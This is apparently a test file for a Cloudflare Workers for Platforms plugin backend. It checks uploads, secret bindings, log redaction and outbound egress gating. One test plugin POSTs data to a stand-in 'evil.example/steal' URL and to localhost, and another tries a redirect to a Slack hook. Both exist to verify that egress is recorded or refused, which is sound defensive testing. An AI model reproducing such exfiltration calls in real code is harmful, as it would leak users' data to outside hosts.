/**
 * The production backend (Workers for Platforms) against stand-ins: the Cloudflare script-upload
 * API (a local server speaking its multipart format and envelope) and a dispatch namespace binding
 * that runs what was uploaded in a Worker Loader isolate, with the bindings from the upload's
 * metadata and the outbound parameters of each dispatch call.
 */
import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { app } from "../../src/app";
import { scriptName } from "../../src/runtime/dispatch-host";
import {
  MAX_TAGS,
  TAG_PATTERN,
  encodeTagId,
  installationOfTags,
  installationTag,
} from "../../src/runtime/script-tags";
import { apiLog, cf, dispatchEnv, standInDispatcher, uploaded } from "../dispatch-standin";
import { examplePackage, publishZip, publisher, rawPackage } from "../plugin-helpers";
import type { Account } from "../helpers";

const req = (a: Account, path: string, init: RequestInit & { json?: unknown } = {}) =>
  new Request(`http://atoll.test${path}`, {
    ...init,
    headers: {
      "x-api-key": a.apiKey,
      ...(init.json !== undefined ? { "content-type": "application/json" } : {}),
    },
    body: init.json !== undefined ? JSON.stringify(init.json) : (init.body ?? null),
  });

describe("dispatch-namespace backend", () => {
  it("uploads each installation as a user Worker with its bindings, limits and tags, and dispatches to it", async () => {
    const a = await publisher("d");
    await publishZip(a, examplePackage("hello", a.slug));
    const { ns, calls } = standInDispatcher();
    const e = dispatchEnv(ns);
    const res = await app.request(
      req(a, "/v1/installations", {
        method: "POST",
        json: { plugin: `@${a.slug}/hello`, grants: ["storage"], config: { greeting: "Ahoy" } },
      }),
      undefined,
      e,
    );
    expect(res.status).toBe(201);
    const inst = (await res.json()) as { id: string; endpoint: string; createdAt: string };
    const name = scriptName({ installationId: inst.id, revision: Date.parse(inst.createdAt) });
    const script = await uploaded(name);
    expect(script?.metadata).toMatchObject({
      main_module: "index.js",
      compatibility_date: "2026-11-01",
    });
    // Tags in the safe alphabet (no `:`, `@`, `/`), ids written reversibly in lower case.
    const tags = script?.metadata.tags ?? [];
    expect(tags).toEqual(
      expect.arrayContaining(["atoll", installationTag(inst.id), `org-${encodeTagId(a.orgId)}`]),
    );
    expect(tags.length).toBeLessThanOrEqual(MAX_TAGS);
    for (const t of tags) expect(t).toMatch(TAG_PATTERN);
    expect(installationOfTags(tags)).toBe(inst.id);
    expect(script?.metadata.bindings.map((b) => `${b.type}:${b.name}`).sort()).toEqual([
      "json:ATOLL",
      "service:STORAGE",
    ]);
    expect(script?.metadata.bindings.find((b) => b.name === "STORAGE")).toMatchObject({
      service: "atoll",
      entrypoint: "PluginStorage",
      props: { installationId: inst.id },
    });
    expect(script?.moduleTypes["index.js"]).toBe("application/javascript+module");
    const put = (await apiLog()).find((l) => l.method === "PUT" && l.path.endsWith(`/${name}`));
    expect(put?.authorization).toBe(`Bearer ${cf.token}`);
    expect(put?.contentType).toMatch(/^multipart\/form-data; boundary=/);

    const hello = await app.request(req(a, `${inst.endpoint}/hello/Ada`), undefined, e);
    expect(await hello.json()).toEqual({ message: "Ahoy, Ada!" });
    expect(
      await (
        await app.request(req(a, `${inst.endpoint}/visits`, { method: "POST" }), undefined, e)
      ).json(),
    ).toEqual({ visits: 1 });
    expect(calls.at(-1)).toMatchObject({
      name,
      options: {
        limits: { cpuMs: 20, subRequests: 5 },
        outbound: { installationId: inst.id, hosts: "" },
      },
    });

    expect(
      (
        await app.request(
          req(a, `/v1/installations/${inst.id}`, { method: "DELETE" }),
          undefined,
          e,
        )
      ).status,
    ).toBe(204);
    expect(await uploaded(name)).toBeNull();
  });

  it("passes granted hosts to the outbound Worker and secrets as a secret binding", async () => {
    const a = await publisher("d");
    await publishZip(a, examplePackage("payment-gateway", a.slug));
    const { ns, calls } = standInDispatcher();
    const e = dispatchEnv(ns);
    const res = await app.request(
      req(a, "/v1/installations", {
        method: "POST",
        json: {
          plugin: `@${a.slug}/payment-gateway`,
          grants: ["network:api.stripe.com", "secrets:PAYMENT_API_KEY", "storage", "payments"],
          secrets: { PAYMENT_API_KEY: "sk_test_dispatch" },
        },
      }),
      undefined,
      e,
    );
    expect(res.status).toBe(201);
    const inst = (await res.json()) as { id: string; createdAt: string };
    const script = await uploaded(
      scriptName({ installationId: inst.id, revision: Date.parse(inst.createdAt) }),
    );
    // One secret_text binding per secret, named as on every backend; nothing secret elsewhere.
    const secret = script?.metadata.bindings.find((b) => b.name === "SECRET_PAYMENT_API_KEY");
    expect(secret).toEqual({
      type: "secret_text",
      name: "SECRET_PAYMENT_API_KEY",
      text: "sk_test_dispatch",
    });
    const readable = JSON.stringify(
      script?.metadata.bindings.filter((b) => b.type !== "secret_text"),
    );
    expect(readable).not.toContain("sk_test_dispatch");
    const charge = await app.request(
      req(a, `/v1/installations/${inst.id}/execute`, {
        method: "POST",
        json: {
          input: {
            amount: 1200,
            currency: "usd",
            source: "tok_visa",
            idempotencyKey: "dispatch-0001",
          },
        },
      }),
      undefined,
      e,
    );
    expect(charge.status).toBe(200);
    expect(calls.at(-1)?.options.outbound).toEqual({
      installationId: inst.id,
      hosts: "api.stripe.com",
    });
  });

  it("names the platform as its user Workers' tail consumer: their logs reach the installation, redacted", async () => {
    const a = await publisher("d");
    const source = `export default { fetch(request, env) {
      const API_TOKEN = env.SECRET_API_TOKEN;
      console.log("dispatched with", API_TOKEN);
      return new Response("ok");
    } };`;
    const pub = await publishZip(
      a,
      rawPackage(a.slug, source, { permissions: ["secrets:API_TOKEN"] }),
    );
    const { plugin } = (await pub.json()) as { plugin: string };
    const { ns } = standInDispatcher();
    const e = dispatchEnv(ns);
    const res = await app.request(
      req(a, "/v1/installations", {
        method: "POST",
        json: {
          plugin,
          grants: ["secrets:API_TOKEN"],
          secrets: { API_TOKEN: "tok_dispatch_secret" },
        },
      }),
      undefined,
      e,
    );
    expect(res.status).toBe(201);
    const inst = (await res.json()) as { id: string; endpoint: string; createdAt: string };
    const script = await uploaded(
      scriptName({ installationId: inst.id, revision: Date.parse(inst.createdAt) }),
    );
    expect(script?.metadata.tail_consumers).toEqual([{ service: "atoll" }]);
    expect((await app.request(req(a, `${inst.endpoint}/x`), undefined, e)).status).toBe(200);
    let messages: string[] = [];
    for (let i = 0; i < 50 && messages.length < 2; i++) {
      await new Promise((r) => setTimeout(r, 50));
      const logs = await app.request(req(a, `/v1/installations/${inst.id}/logs`), undefined, e);
      messages = ((await logs.json()) as { logs: { message: string }[] }).logs.map(
        (l) => l.message,
      );
    }
    // initialize's call and ours, each redacted.
    expect(messages.length).toBeGreaterThan(0);
    expect(new Set(messages)).toEqual(new Set(["dispatched with [redacted]"]));
  });

  it("refuses the install and stores nothing when the API refuses the upload", async () => {
    const a = await publisher("d");
    const pub = (await (
      await publishZip(
        a,
        rawPackage(a.slug, "export default { fetch() { return new Response('x') } }"),
      )
    ).json()) as { plugin: string };
    const { ns } = standInDispatcher();
    const res = await app.request(
      req(a, "/v1/installations", { method: "POST", json: { plugin: pub.plugin, grants: [] } }),
      undefined,
      dispatchEnv(ns, "wrong-token"),
    );
    expect(res.status).toBe(502);
    expect(((await res.json()) as { type: string }).type).toMatch(/plugin-deploy-failed$/);
    const rows = await env.DB.prepare("SELECT count(*) AS n FROM installations WHERE org_id = ?")
      .bind(a.orgId)
      .first<{ n: number }>();
    expect(rows?.n).toBe(0);
  });

  it("throws for a script the namespace does not hold, in Cloudflare's words", async () => {
    const { ns } = standInDispatcher();
    await expect(
      ns.get("atoll-nobody-1", {}, {}).fetch("https://plugin.atoll.internal/"),
    ).rejects.toThrow(/^Worker not found/);
  });
});

describe("the stand-in namespace's outbound Worker", () => {
  /** A plugin that fetches each URL and reports what came back, never throwing. */
  const fetchEach = (urls: string[]) => `export default { async fetch(req) {
    if (new URL(req.url).pathname.startsWith("/__atoll/")) return new Response(null, { status: 404 });
    const out = [];
    for (const url of ${JSON.stringify(urls)}) {
      try {
        const res = await fetch(url, { method: "POST", body: "x" });
        out.push({ status: res.status, egress: res.headers.get("x-atoll-egress"), body: await res.text() });
      } catch (err) { out.push({ error: String(err.message) }); }
    }
    return Response.json(out);
  } };`;

  async function installWith(
    ns: DispatchNamespace,
    source: string,
    grants: string[],
  ): Promise<{ a: Account; inst: { id: string; endpoint: string } }> {
    const a = await publisher("ob");
    const permissions = grants.filter((g) => g.startsWith("network:"));
    const pub = await publishZip(a, rawPackage(a.slug, source, { permissions }));
    const { plugin } = (await pub.json()) as { plugin: string };
    const res = await app.request(
      req(a, "/v1/installations", { method: "POST", json: { plugin, grants } }),
      undefined,
      dispatchEnv(ns),
    );
    expect(res.status).toBe(201);
    return { a, inst: (await res.json()) as { id: string; endpoint: string } };
  }

  it("receives every plugin fetch as its own Worker, with the call's outbound parameters as its whole env", async () => {
    // A recording outbound Worker in place of workers/outbound: what reaches it, with what env.
    const recorder = {
      id: `recorder-${crypto.randomUUID()}`,
      compatibilityDate: "2026-11-01",
      module: `export default { async fetch(req, env) {
        return Response.json({ url: req.url, method: req.method, body: await req.text(), env }, { headers: { "x-outbound": "recorder" } });
      } };`,
    };
    const { ns, calls } = standInDispatcher(undefined, recorder);
    const urls = [
      "https://evil.example/steal?x=1",
      "http://127.0.0.1:1/",
      "https://api.stripe.com/v1",
    ];
    const { a, inst } = await installWith(ns, fetchEach(urls), []);
    const res = await app.request(req(a, `${inst.endpoint}/go`), undefined, dispatchEnv(ns));
    const seen = (await res.json()) as { status: number; body: string }[];
    // Not the local egress gate (it would refuse all three): the namespace's outbound Worker saw
    // each, with exactly what the gateway passed as `outbound`, nothing of the platform's env.
    expect(seen.map((s) => s.status)).toEqual([200, 200, 200]);
    const env = { installationId: inst.id, hosts: "" };
    expect(calls.at(-1)?.options.outbound).toEqual(env);
    expect(seen.map((s) => JSON.parse(s.body) as unknown)).toEqual(
      urls.map((url) => ({ url, method: "POST", body: "x", env })),
    );
  });

  it("is workers/outbound by default: its refusal for a redirect off the grants, and the stand-in network behind it", async () => {
    const { ns } = standInDispatcher();
    const off = `https://api.stripe.com/__standin/redirect?to=${encodeURIComponent("https://hooks.slack.com/x")}`;
    const { a, inst } = await installWith(
      ns,
      fetchEach([off, "https://api.stripe.com/v1/charges"]),
      ["network:api.stripe.com"],
    );
    const res = await app.request(req(a, `${inst.endpoint}/go`), undefined, dispatchEnv(ns));
    const [refused, stripe] = (await res.json()) as {
      status: number;
      egress: string;
      body: string;
    }[];
    expect(refused).toMatchObject({ status: 403, egress: "refused" });
    expect(refused?.body).toContain("hooks.slack.com is not granted");
    // Granted: mapped to the Stripe stand-in, which answers in Stripe's words (no API key sent).
    expect(stripe).toMatchObject({ status: 401, egress: null });
    expect(stripe?.body).toContain("Invalid API Key");
  });
});
